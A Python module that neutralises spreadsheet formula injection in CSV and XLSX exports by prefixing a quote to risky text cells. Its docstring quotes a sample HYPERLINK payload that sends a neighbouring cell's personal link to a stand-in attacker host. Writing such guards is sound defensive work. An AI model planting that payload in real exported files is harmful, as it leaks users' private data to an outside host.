"""Neutralise spreadsheet formulas in text cells of every CSV or XLSX file the project writes.

A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula
(tab and carriage return lead there too, after trimming), so a unit name such as
``=HYPERLINK("http://evil.example/?"&D2,"Öppna")`` would run against the neighbouring cell, the
personal link, when an administrator opens the file. Such a text cell gets a leading single
quote, which spreadsheets read as "this is text". Only text is touched: numbers are written by
the callers' numeric columns and stay numbers (``-0.5`` stays ``-0.5``). JSON needs nothing:
no program evaluates its strings.

There is exactly one rule, here, so every writer (links, aggregates, reliability, fieldwork,
later exports) neutralises the same way.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import TypeVar

__all__ = ["FORMULA_STARTS", "csv_text", "neutralise", "neutralise_row"]

#: First characters that make a spreadsheet evaluate a text cell.
FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

T = TypeVar("T")


def neutralise(value: T) -> T | str:
    """Return a text ``value`` that a spreadsheet would evaluate with a leading ``'``.

    Anything that is not a ``str`` (numbers, None, booleans) is returned unchanged, so a writer
    must pass numbers as numbers, or not pass numeric columns through here at all.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(value: str) -> str:
    """A text cell for a CSV file whose line end is ``\n``: neutralised, and a carriage return
    turned into a line feed, which the csv module then quotes (it leaves a bare ``\r``
    unquoted under that line end, and a reader would take it for the end of the row)."""
    return str(neutralise(value)).replace("\r\n", "\n").replace("\r", "\n")


def neutralise_row(row: Mapping[str, T] | Iterable[T]) -> dict[str, T | str] | list[T | str]:
    """A row (a mapping or a sequence) with every text cell neutralised."""
    if isinstance(row, Mapping):
        return {key: neutralise(value) for key, value in row.items()}
    return [neutralise(value) for value in row]
